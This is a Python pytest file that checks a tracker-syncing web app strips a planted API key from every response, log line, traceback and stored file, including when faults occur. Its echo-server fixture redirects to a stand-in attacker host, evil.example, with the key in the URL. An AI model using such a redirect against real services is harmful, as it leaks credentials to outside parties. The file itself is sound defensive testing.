"""A planted key, failures of every kind, and everything that comes out: the key never does."""

import io
import json
import logging
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import ClassVar
from urllib.parse import quote

import httpx2
import pytest

from panopticon.config import Config, Source
from panopticon.errors import AuthFailed, InvalidInput, LocalFault, PanError, Retriable
from panopticon.model.issue import Comment, Issue
from panopticon.services import redaction
from panopticon.services.context import Context
from panopticon.services.opening import context_for
from panopticon.store.base import Store
from panopticon.trackers.base import Check
from panopticon.web.faults import Json
from panopticon.web.serve import pull_for
from tests.web.fakes import OneKeyTracker, context, team_store
from tests.web.served import served

MARK = "Pl4nt3d"
KEY = f'_{MARK}/k3y+"x\\y%z='
TYPED = f"_{MARK}-typed-by-hand"


@pytest.fixture(autouse=True)
def _forget(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Begin with no key known, and leave the log as it was."""
    make = logging.getLogRecordFactory()
    monkeypatch.setattr(redaction._Known, "spellings", ())
    monkeypatch.setattr(threading, "excepthook", threading.excepthook)
    redaction.guard_threads()
    yield
    logging.setLogRecordFactory(make)


@pytest.fixture
def log() -> Iterator[io.StringIO]:
    """Hear everything, with tracebacks, as a log file would."""
    heard = io.StringIO()
    handler = logging.StreamHandler(heard)
    handler.setFormatter(logging.Formatter("%(name)s %(message)s"))
    roots = [logging.getLogger(), logging.getLogger("panopticon")]
    kept = [(root, root.level, root.propagate) for root in roots]
    for root in roots:
        root.setLevel(logging.DEBUG)
        root.propagate = True
    roots[0].addHandler(handler)
    yield heard
    roots[0].removeHandler(handler)
    for root, level, propagate in kept:
        root.setLevel(level)
        root.propagate = propagate


FAULTS: dict[str, Callable[[str], Exception]] = {
    "refused": lambda key: AuthFailed(f"The key {key} was refused.", f"Not {key}.", key=key),
    "busy": lambda key: Retriable(f"Busy with {key}", retry_after=1, tried=[{"with": key}]),
    "query": lambda key: InvalidInput(f"Could not parse ?key={quote(key, safe='')}"),
    "local": lambda key: LocalFault(f"Cannot write {key!r}."),
    "bug": lambda key: ValueError(f"Illegal header value {key.encode()!r}"),
    "bug in another": lambda key: KeyError({"zsessionid": key}),
    "json": lambda key: PanError(json.dumps({"key": key})),
}


def failing(fault: Callable[[str], Exception]) -> Callable[[Source], OneKeyTracker]:
    class Telling(OneKeyTracker):
        """A tracker that repeats its key in whatever goes wrong."""

        def _fail(self) -> Exception:
            return fault(str(self.source.secret))

        def check(self) -> Check:
            raise self._fail()

        def comments(self, _key: str) -> list[Comment]:
            raise self._fail()

        def get(self, _key: str) -> Issue:
            raise self._fail()

    return Telling


ASKED = [
    ("GET", "/api/health"),
    ("GET", "/api/item/comments?ref=US121"),
    ("GET", "/api/item/history?ref=US121"),
    ("GET", "/api/people"),
    ("GET", "/api/form?ref=US121"),
    ("GET", "/api/doctor"),
    ("GET", "/api/settings"),
    ("POST", "/api/sources/rally/test"),
    ("POST", "/api/item/move"),
    ("PATCH", "/api/item"),
]
BODY = {
    "ref": "US121",
    "state": "done",
    "fields": {"title": "x"},
    "type": "rally",
    "apiKey": TYPED,
    "key": TYPED,
}


def answered(ctx: Context, log: io.StringIO) -> str:
    """Ask everything and sync, and collect whatever comes out."""
    with served(ctx) as (_, ready):
        bearer = {"Authorization": f"Bearer {ready['token']}"}
        with httpx2.Client(base_url=str(ready["url"]), headers=bearer, timeout=20) as client:
            told = [answer_of(client, method, path) for method, path in ASKED]
            told += [answer_of(client, "POST", "/api/rally/validate")]
            page = client.get("/nowhere", headers={"Accept": "text/html"})
            with client.stream("GET", "/api/events?after=0") as stream:
                lines = stream.iter_lines()
                told += [next(lines) for _ in range(4)]
    return "\n".join([*told, page.text, log.getvalue()])


def answer_of(client: httpx2.Client, method: str, path: str) -> str:
    given = {} if method == "GET" else {"json": BODY}
    answer = client.request(method, path, **given)  # type: ignore[arg-type]
    return f"{answer.headers}\n{answer.text}"


def told_by(ctx: Context, log: io.StringIO) -> str:
    redaction.keep(ctx)  # as the server does before anything else
    try:
        pull_for(ctx)("rally")
    except PanError as error:
        log.write(f"{error.message}\n{error.hint}\n")
    records = [repr(record) for record in ctx.store.sync_records()]
    return "\n".join([*records, answered(ctx, log)])


def planted(home: Path, store: Store, fault: Callable[[str], Exception]) -> Context:
    sources = (Source("rally", "rally", secret=KEY),)
    return context(home, store, sources=sources, open_tracker=failing(fault))


@pytest.mark.requirement("web:secret:struck")
@pytest.mark.parametrize("fault", FAULTS.values(), ids=FAULTS)
def test_whatever_fails_the_key_is_not_told(
    fault: Callable[[str], Exception], tmp_path: Path, log: io.StringIO
) -> None:
    told = told_by(planted(tmp_path, team_store(), fault), log)
    assert MARK not in told
    assert "[secret]" in told  # it was there to be struck


@pytest.mark.requirement("web:guard:fails")
@pytest.mark.parametrize("fault", FAULTS.values(), ids=FAULTS)
def test_unstruck_the_key_is_told(
    fault: Callable[[str], Exception],
    tmp_path: Path,
    log: io.StringIO,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(redaction, "_spellings", lambda _secret: set[str]())
    assert MARK in told_by(planted(tmp_path, team_store(), fault), log)


@pytest.mark.requirement("web:secret:trial")
@pytest.mark.parametrize("typed", ["ada.obi@example.com", "in_progress", '":"rally:', "Northwind"])
def test_a_word_typed_as_a_key_stays_in_what_others_read(typed: str, tmp_path: Path) -> None:
    hangs, go = threading.Event(), threading.Event()

    class Waiting(OneKeyTracker):
        def check(self) -> Check:
            hangs.set()
            go.wait(10)
            raise AuthFailed(f"The key {self.source.secret} was refused.")

    ctx = context(tmp_path, team_store(), open_tracker=Waiting)
    read = ["/api/item?ref=US123", "/api/settings", "/api/board/matches"]
    with served(ctx) as (_, ready), ThreadPoolExecutor(1) as pool:
        bearer = {"Authorization": f"Bearer {ready['token']}"}
        with httpx2.Client(base_url=str(ready["url"]), headers=bearer, timeout=20) as client:
            before = [client.get(path).json() for path in read]
            trial = pool.submit(
                client.post,
                "/api/sources/test",
                json={"type": "rally", "name": "new", "key": typed},
            )
            assert hangs.wait(10)
            during = [client.get(path).json() for path in read]
            go.set()
            told = trial.result()
            after = [client.get(path).json() for path in read]
    assert told.json()["message"] == "The key [secret] was refused."
    assert told.json()["error"] == "auth"
    assert during == before
    assert after == before
    assert redaction.struck(typed) == typed  # forgotten


@pytest.mark.requirement("web:secret:items")
def test_a_saved_key_is_struck_in_quotations_only(log: io.StringIO) -> None:
    word = "ada.obi@example.com"
    redaction.learn(Source("rally", "rally", secret=word))
    redaction.guard_log()
    item = {"assignee": word, "values": {word: word, "error": word}, "body": f"Ask {word}"}
    assert json.loads(bytes(Json(item).body)) == item
    clash = PanError(f"Not {word}", word, current={"body": word}, item=item, said=[{"by": word}])
    struck = {"message": "Not [secret]", "hint": "[secret]", "said": [{"by": "[secret]"}]}
    told = {"error": "failure", "current": {"body": word}, "item": item, **struck}
    assert json.loads(bytes(Json(clash.as_json()).body)) == told
    findings = {"findings": [{"check": word, "message": word, "hint": ""}]}
    assert json.loads(bytes(Json(findings).body))["findings"] == [
        {"check": word, "message": "[secret]", "hint": ""}
    ]
    logging.getLogger("panopticon.trial").error("Told %s", word)
    assert "Told [secret]" in log.getvalue()


class Echo(BaseHTTPRequestHandler):
    """A server that answers with the key it was sent."""

    status: ClassVar[int] = 403

    def do_GET(self) -> None:
        told = " ".join([*map(str, self.headers.values()), self.path]).encode()
        self.send_response(self.status)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(told)))
        self.send_header("Location", f"https://evil.example/?{quote(KEY, safe='')}")
        self.end_headers()
        self.wfile.write(told)

    do_POST = do_PUT = do_GET  # noqa: N815 - the names that the server looks for

    def log_message(self, format: str, *args: object) -> None: ...  # noqa: A002


@pytest.fixture
def echo() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Echo)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.mark.requirement("web:secret:struck")
@pytest.mark.parametrize("status", [302, 400, 401, 403, 404])
def test_a_server_that_echoes_the_key_is_not_repeated(
    status: int, echo: str, tmp_path: Path, log: io.StringIO, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Echo, "status", status)
    options = {"server": echo, "workspace": "W", "project": "P"}
    home = tmp_path / "home"
    home.mkdir()
    source = Source("rally", "rally", options, secret=KEY)
    config = Config(home=home, folder=tmp_path / "folder", sources=(source,))
    ctx = context_for(config)
    try:
        told = told_by(ctx, log)
        assert ctx.store.sync_records()[0].error
    finally:
        ctx.close()
    files = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert any(path.name == "panopticon.db" for path in files)
    assert MARK not in told
    assert [path.name for path in files if MARK.encode() in path.read_bytes()] == []


@pytest.mark.requirement("web:secret:spellings")
def test_every_spelling_is_struck() -> None:
    redaction.learn(Source("rally", "rally", {"password": "a secret word"}, secret=KEY))
    texts = [KEY, quote(KEY), quote(KEY, safe=""), json.dumps(KEY), repr(KEY), repr([KEY.encode()])]
    for text in [*texts, "a secret word", "a%20secret%20word"]:
        told = redaction.struck(f"before {text} after")
        assert MARK not in told
        assert "secret word" not in told
        assert told.startswith("before ")
        assert told.endswith(" after")
        assert MARK.encode() not in bytes(Json({"error": text, "warnings": [text]}).body)


@pytest.mark.requirement("web:secret:struck")
def test_the_mistake_of_a_thread_is_told_without_the_key(log: io.StringIO) -> None:
    redaction.learn(Source("rally", "rally", secret=KEY))
    redaction.guard_log()

    def fail() -> None:
        raise ValueError(KEY)

    thread = Thread(target=fail, name="poll-rally")
    thread.start()
    thread.join()
    assert "poll-rally failed: ValueError: [secret]" in log.getvalue()
    assert MARK not in log.getvalue()


@pytest.mark.requirement("web:secret:spellings")
def test_a_short_secret_does_not_garble_what_is_said() -> None:
    redaction.learn(Source("rally", "rally", secret="good"))
    assert redaction.struck("Looks good.") == "Looks good."


@pytest.mark.requirement("web:secret:spellings")
def test_a_traceback_and_a_broken_format_are_handled(log: io.StringIO) -> None:
    redaction.learn(Source("rally", "rally", secret=KEY))
    redaction.guard_log()
    redaction.guard_log()  # a second board in one process
    logger = logging.getLogger("panopticon.trial")
    nothing: dict[str, str] = {}
    try:
        nothing[KEY]
    except KeyError:
        logger.exception("It failed with %s", KEY)
    assert "KeyError: '[secret]'" in log.getvalue()
    assert "It failed with [secret]" in log.getvalue()
    assert MARK not in log.getvalue()
    assert logging.getLogRecordFactory()("n", 10, "p", 1, "%d", ("x",), None).msg == "%d"
